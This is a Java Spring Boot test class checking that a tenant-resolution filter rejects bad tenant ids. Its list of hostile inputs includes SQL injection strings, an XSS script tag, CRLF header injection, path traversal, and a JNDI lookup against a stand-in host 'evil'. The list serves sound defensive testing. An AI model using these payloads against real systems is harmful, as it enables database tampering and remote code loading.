package io.dotmac.database.autoconfigure.tenancy;

import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.CopyOnWriteArrayList;

import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.MDC;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.SpringBootConfiguration;
import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.test.web.servlet.ResultActions;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.PathVariable;
import org.springframework.web.bind.annotation.RestController;
import org.springframework.web.servlet.HandlerInterceptor;
import org.springframework.web.servlet.config.annotation.InterceptorRegistry;
import org.springframework.web.servlet.config.annotation.WebMvcConfigurer;

import io.dotmac.database.embedded.test.DotmacTestServers;
import io.dotmac.database.tenant.CachingTenantRegistry;
import io.dotmac.database.tenant.TenantContext;
import io.dotmac.database.tenant.TenantFilter;
import io.dotmac.database.tenant.TenantId;
import io.dotmac.database.tenant.TenantRegistry;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.asyncDispatch;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.request;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The tenant filter as the auto-configuration installs it, in front of Spring MVC, with the
 * JDBC registry on real PostgreSQL: status codes, problem bodies, hostile input, excluded
 * paths, async dispatch.
 */
@SpringBootTest(properties = { "dotmac.database.tenancy.resolvers=header,path",
		"dotmac.database.tenancy.excluded-paths=/actuator/**,/error,/api/admin/**",
		// Nothing to migrate here besides the starter's own registry table.
		"spring.liquibase.enabled=false" })
@AutoConfigureMockMvc
@DotmacTestServers
class TenantFilterMockMvcTests {

	private static final String HEADER = "X-Tenant-ID";

	/** Malformed, injected and oversized ids; each must be a 400 that never reaches SQL. */
	static final List<String> HOSTILE = List.of("acme' OR '1'='1", "acme'; DROP TABLE dotmac_tenants; --",
			"a".repeat(10 * 1024), "acmé", "\u212Acme", "ＡＣＭＥ", "acme\r\nX-Injected: yes", "ACME", " acme",
			"acme ", "acme,globex", "../acme", "<script>alert(1)</script>", "${jndi:ldap://evil/x}", "acme\u0000",
			"a".repeat(49), "");

	private static final JsonMapper json = JsonMapper.builder().build();

	@Autowired
	private MockMvc mvc;

	@Autowired
	private SqlRecorder sql;

	@Autowired
	private SeenTenants seen;

	@BeforeAll
	static void registerTenants(@Autowired TenantRegistry registry) {
		registry.register(TenantId.of("acme"), "Acme Corp");
		registry.register(TenantId.of("globex"), "Globex");
		registry.suspend(TenantId.of("globex"));
	}

	@BeforeEach
	void reset() {
		this.sql.clear();
		this.seen.clear();
	}

	@Test
	void registeredTenantIsBoundForTheRequestAndInTheMdc() throws Exception {
		this.mvc.perform(get("/api/whoami").header(HEADER, "acme"))
			.andExpect(status().isOk())
			.andExpect(content().string("acme|acme"))
			.andExpect(request().attribute(TenantFilter.TENANT_ATTRIBUTE, TenantId.of("acme")));
		assertThat(TenantContext.current()).as("unbound after the request").isEmpty();
		assertThat(MDC.get(TenantContext.MDC_KEY)).isNull();
	}

	@Test
	void pathResolverIsSecondInTheChain() throws Exception {
		this.mvc.perform(get("/t/acme/whoami")).andExpect(status().isOk()).andExpect(content().string("acme"));
		this.mvc.perform(get("/t/acme'--/whoami")).andExpect(status().isBadRequest());
	}

	@Test
	void missingTenantIs400ProblemDetail() throws Exception {
		JsonNode problem = problem(this.mvc.perform(get("/api/whoami")), 400);
		assertThat(problem.get("code").asString()).isEqualTo("tenant-missing");
		assertThat(problem.get("title").asString()).isEqualTo("Bad Request");
		assertThat(problem.get("detail").asString()).isEqualTo("This request must identify its tenant.");
		assertThat(problem.get("type").asString()).isEqualTo("about:blank");
		assertThat(this.sql.recorded()).isEmpty();
	}

	@Test
	void malformedInjectedAndOversizedIdsAre400AndNeverReachSql() throws Exception {
		for (String hostile : HOSTILE) {
			JsonNode problem = problem(this.mvc.perform(get("/api/whoami").header(HEADER, hostile)), 400);
			assertThat(problem.get("code").asString()).isEqualTo("tenant-malformed");
			assertThat(problem.toString()).doesNotContain("OR", "DROP", "script", "jndi", "Injected", "aaaaaaaaaa");
		}
		assertThat(this.sql.recorded()).as("nothing reached the database").isEmpty();
	}

	@Test
	void problemBodyIsValidJsonAndEchoesNothing() throws Exception {
		MvcResult result = this.mvc.perform(get("/api/whoami").header(HEADER, "acme\"}, \"status\": 200, \"x\": {\""))
			.andExpect(status().isBadRequest())
			.andReturn();
		String body = result.getResponse().getContentAsString();
		assertThat(json.readTree(body).get("status").asInt()).isEqualTo(400);
		assertThat(body).doesNotContain("\"x\"");
		assertThat(result.getResponse().getHeader("Cache-Control")).isEqualTo("no-store");
	}

	@Test
	void unknownAndSuspendedTenantsGetTheSame404() throws Exception {
		MvcResult unknown = this.mvc.perform(get("/api/whoami").header(HEADER, "nobody")).andReturn();
		MvcResult suspended = this.mvc.perform(get("/api/whoami").header(HEADER, "globex")).andReturn();
		JsonNode problem = json.readTree(unknown.getResponse().getContentAsString());
		assertThat(unknown.getResponse().getStatus()).isEqualTo(404);
		assertThat(problem.get("code").asString()).isEqualTo("tenant-unknown");
		assertThat(problem.get("detail").asString()).isEqualTo("No such tenant.");
		assertThat(suspended.getResponse().getStatus()).isEqualTo(404);
		assertThat(suspended.getResponse().getContentAsString()).isEqualTo(unknown.getResponse().getContentAsString());
		assertThat(suspended.getResponse().getHeaderNames()).isEqualTo(unknown.getResponse().getHeaderNames());
		assertThat(suspended.getResponse().getContentType()).isEqualTo(unknown.getResponse().getContentType());
		assertThat(this.seen.all()).as("the application never ran").isEmpty();
	}

	@Test
	void registryLookupsAreCachedAcrossRequests(@Autowired CachingTenantRegistry registry) throws Exception {
		registry.invalidateAll();
		for (int i = 0; i < 20; i++) {
			this.mvc.perform(get("/api/whoami").header(HEADER, "acme")).andExpect(status().isOk());
			this.mvc.perform(get("/api/whoami").header(HEADER, "nobody")).andExpect(status().isNotFound());
		}
		// One lookup for the known tenant and one for the unknown one; the recorder sees SQL.
		assertThat(this.sql.recorded().stream().filter((line) -> line.startsWith("sql:"))).hasSize(2);
		assertThat(this.sql.recorded()).contains("parameter: acme", "parameter: nobody");
	}

	@Test
	void excludedPathsRunWithoutTenant() throws Exception {
		this.mvc.perform(get("/api/admin/ping")).andExpect(status().isOk()).andExpect(content().string("admin:none"));
		this.mvc.perform(get("/api/admin/ping").header(HEADER, "acme"))
			.andExpect(status().isOk())
			.andExpect(content().string("admin:none"));
		this.mvc.perform(get("/actuator/health")).andExpect(status().isOk());
		this.mvc.perform(get("/api/admin/ping").header(HEADER, "acme' OR '1'='1")).andExpect(status().isOk());
	}

	@Test
	void asyncWorkAndAsyncDispatchRunForTheTenant() throws Exception {
		MvcResult started = this.mvc.perform(get("/api/async").header(HEADER, "acme"))
			.andExpect(request().asyncStarted())
			.andReturn();
		this.mvc.perform(asyncDispatch(started)).andExpect(status().isOk()).andExpect(content().string("acme"));
		assertThat(this.seen.all()).contains("REQUEST:acme", "worker:acme", "ASYNC:acme");
		assertThat(TenantContext.current()).isEmpty();
	}

	private static JsonNode problem(ResultActions actions, int status) throws Exception {
		MvcResult result = actions.andExpect(status().is(status))
			.andExpect(header().string("Content-Type", MediaType.APPLICATION_PROBLEM_JSON_VALUE + ";charset=UTF-8"))
			.andReturn();
		JsonNode problem = json.readTree(result.getResponse().getContentAsString());
		assertThat(problem.get("status").asInt()).isEqualTo(status);
		return problem;
	}

	@SpringBootConfiguration
	@EnableAutoConfiguration
	@Import(Api.class)
	static class Application implements WebMvcConfigurer {

		@Bean
		static SqlRecorder sqlRecorder() {
			return new SqlRecorder();
		}

		@Bean
		SeenTenants seenTenants() {
			return new SeenTenants();
		}

		@Override
		public void addInterceptors(InterceptorRegistry registry) {
			SeenTenants seen = seenTenants();
			registry.addInterceptor(new HandlerInterceptor() {
				@Override
				public boolean preHandle(HttpServletRequest request, HttpServletResponse response, Object handler) {
					seen.add(request.getDispatcherType() + ":" + TenantContext.current().map(TenantId::value).orElse("none"));
					return true;
				}
			});
		}

	}

	@RestController
	static class Api {

		private final SeenTenants seen;

		Api(SeenTenants seen) {
			this.seen = seen;
		}

		@GetMapping("/api/whoami")
		String whoami() {
			return TenantContext.require().value() + "|" + MDC.get(TenantContext.MDC_KEY);
		}

		@GetMapping("/t/{tenant}/whoami")
		String pathWhoami(@PathVariable String tenant) {
			return TenantContext.require().value();
		}

		@GetMapping("/api/admin/ping")
		String admin() {
			return "admin:" + TenantContext.current().map(TenantId::value).orElse("none");
		}

		@GetMapping("/api/async")
		Callable<String> async() {
			return () -> {
				String tenant = TenantContext.require().value();
				this.seen.add("worker:" + tenant);
				return tenant;
			};
		}

	}

	static class SeenTenants {

		private final List<String> seen = new CopyOnWriteArrayList<>();

		void add(String entry) {
			this.seen.add(entry);
		}

		List<String> all() {
			return List.copyOf(this.seen);
		}

		void clear() {
			this.seen.clear();
		}

	}

}
